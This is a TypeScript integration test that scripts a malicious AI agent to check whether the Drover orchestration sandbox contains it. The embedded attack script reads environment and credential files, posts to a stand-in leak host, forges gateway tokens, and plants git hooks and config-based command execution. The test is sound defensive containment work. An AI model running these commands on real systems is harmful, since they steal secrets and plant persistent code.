/**
 * A scripted malicious agent in a whole Drover (fault A4): it looks for the key everywhere, calls out, plants what git
 * runs, and asks the gateway for what is not its own. The key is a canary: afterwards it is looked for in everything
 * that Drover keeps and shows. Needs `npm run build`.
 */
import { existsSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, jest } from '@jest/globals';
import { Client } from '@temporalio/client';
import { embeddedTarget, lazyConnection } from '../../workers/temporal/connect.ts';
import { apiOf } from '../support/api-client.ts';
import { completed, startDrover, type Drover } from '../support/drover.ts';
import { historyToText, runsOf } from '../support/history.ts';
import { task as planTask } from '../support/plan-task.ts';
import { git, makeRepository } from '../support/repository.ts';
import { sandboxTest } from '../support/sandbox.ts';

jest.setTimeout(300_000);

const CANARY = 'sk-ant-canary-7f3a9b';
let drover: Drover;
let internet: Server;
const reached: string[] = [];
beforeAll(async () => {
  internet = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end('the internet');
  });
  await new Promise<void>((resolve) => internet.listen(0, '127.0.0.1', resolve));
  // Without an external Temporal its key is of no use, and a secret all the same.
  drover = await startDrover({ ANTHROPIC_API_KEY: CANARY, TEMPORAL_API_KEY: CANARY });
}, 180_000);
afterAll(async () => {
  internet.close();
  await drover.close();
});

/** The content of every file under `directory`: logs, databases, run directories, artifacts. */
const everything = async (directory: string): Promise<string> => {
  const entries = await readdir(directory, { recursive: true, withFileTypes: true });
  const texts: string[] = [];
  for (const entry of entries.filter((one) => one.isFile()))
    texts.push(await readFile(join(entry.parentPath, entry.name), 'latin1').catch(() => ''));
  return texts.join('\n');
};

const attack = (gateway: string, pwned: string): string => `
env
cat /proc/$PPID/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'
cat ~/.bashrc ~/.ssh/* ~/.claude/* ~/.aws/* 2>&1
ls -la ~ .. ../agents 2>&1; cat ../agents/*/* ../artifacts/* ${drover.home.root}/* 2>&1
get() { node -e 'fetch(process.argv[1], { method: "POST", body: "{}", headers: { "x-api-key": process.argv[2] } }).then(async (answer) => console.log("ANSWER", process.argv[1], answer.status, (await answer.text()).slice(0, 200)), () => console.log("NO ANSWER", process.argv[1]))' "$1" "$2"; }
get ${gateway}/anthropic/v1/messages drover-of-another-agent
get ${gateway}/a/drover-0123456789abcdef/anthropic/v1/messages x
get ${gateway}/mcp drover-of-another-agent
get http://example.org/leak x
NO_PROXY= no_proxy= get http://127.0.0.1:${(internet.address() as AddressInfo).port}/leak x
NODE_USE_ENV_PROXY= get http://127.0.0.1:${(internet.address() as AddressInfo).port}/direct x
for hook in pre-commit post-commit post-checkout post-merge reference-transaction pre-push; do
  printf '#!/bin/sh\\ntouch ${pwned}\\n' > .git/hooks/$hook; chmod +x .git/hooks/$hook
done
git config core.fsmonitor 'touch ${pwned}; false'
git config core.sshCommand 'touch ${pwned}'
git config filter.x.clean 'touch ${pwned}; cat'; git config filter.x.smudge 'touch ${pwned}; cat'
git config merge.x.driver 'touch ${pwned}; false'
git config alias.status '!touch ${pwned}'
printf '* filter=x merge=x\\n' > .gitattributes
echo changed > declared.txt
`;

sandboxTest('a malicious agent finds no key, reaches nobody, and plants nothing that runs', async () => {
  const repository = join(drover.root, 'repository');
  await makeRepository(repository, { 'README.md': 'hello\n', 'declared.txt': 'base\n' });
  const pwned = join(drover.root, 'pwned');
  const { gateway } = await drover.services();
  const swarm = await drover.start(
    repository,
    [
      planTask('attack', { command: attack(gateway.url, pwned), files: ['declared.txt'] }),
      planTask('after', { command: 'cat declared.txt > after.txt', dependsOn: ['attack'] }),
    ],
    {
      sandbox: { mode: 'required', hosts: [], read: [] },
      build: [{ name: 'look', run: 'git status', timeoutSeconds: 60 }],
    },
  );
  await completed(swarm);

  // It did look, and what it asked for was refused and is listed.
  const api = await apiOf(drover);
  const log = (await api.get(`/api/swarms/${swarm.id}/agents/agent-0/log`)).text;
  expect(log).toContain('AGENT_WORKTREE_PATH');
  expect(log).toMatch(/ANSWER [^ ]*\/anthropic\/v1\/messages 401/);
  expect(log).toMatch(/ANSWER [^ ]*\/a\/drover-0123456789abcdef\/anthropic\/v1\/messages 401/);
  expect(log).toMatch(/ANSWER [^ ]*\/mcp 40[0-9]/);
  expect(log).toMatch(/NO ANSWER [^ ]*\/direct/);
  expect(log).toContain('The sandbox refused a connection to example.org:80');
  expect(log).toContain('permission_denied');
  expect(reached).toEqual([]);
  expect(await (await fetch(`${gateway.url}/metrics`)).text()).toMatch(
    /drover_model_calls_refused_total\{reason="token"\} [1-9]/,
  );

  // What it planted never ran, and what it changed besides its files is reported.
  expect(existsSync(pwned)).toBe(false);
  const reported = (await api.get(`/api/swarms/${swarm.id}/tasks/attack`)).text;
  expect(reported).toContain('.gitattributes');
  expect(await git(repository, 'show', `drover/${swarm.id}:after.txt`)).toBe('changed');

  // The key is nowhere: not in history, files, databases, logs, nor on any page.
  const client = new Client({
    connection: lazyConnection(embeddedTarget((await drover.services()).temporal.address)),
  });
  const histories = await Promise.all(
    [swarm.id, `${swarm.id}/task/attack`].map((id) => runsOf(client, id).catch(() => [])),
  );
  await client.connection.close();
  expect(histories.flat().length).toBeGreaterThan(0);
  expect(histories.flat().map(historyToText).join('\n')).not.toContain(CANARY);
  for (const service of ['supervisor', 'temporal', 'worker', 'api', 'gateway'] as const)
    expect(await readFile(`/proc/${await drover.pid(service)}/environ`, 'utf8')).not.toContain(CANARY);
  const kept = await everything(drover.root);
  expect(kept).toContain('AGENT_WORKTREE_PATH');
  expect(kept).not.toContain(CANARY);
  const paths = Object.keys(
    (
      JSON.parse(await readFile(new URL('../../docs/openapi.json', import.meta.url), 'utf8')) as {
        paths: object;
      }
    ).paths,
  ).map((path) =>
    path
      .replace('{swarmId}', swarm.id)
      .replace('{taskId}', 'attack')
      .replace('{agentId}', 'agent-0')
      .replace('{version}', '1'),
  );
  // Streams go on for as long as somebody listens.
  for (const path of ['/', '/metrics', ...paths.filter((one) => !one.endsWith('/stream'))])
    expect((await api.get(path)).text).not.toContain(CANARY);
  expect((await drover.cli(['status', swarm.id, '--json'])).stdout).not.toContain(CANARY);
});
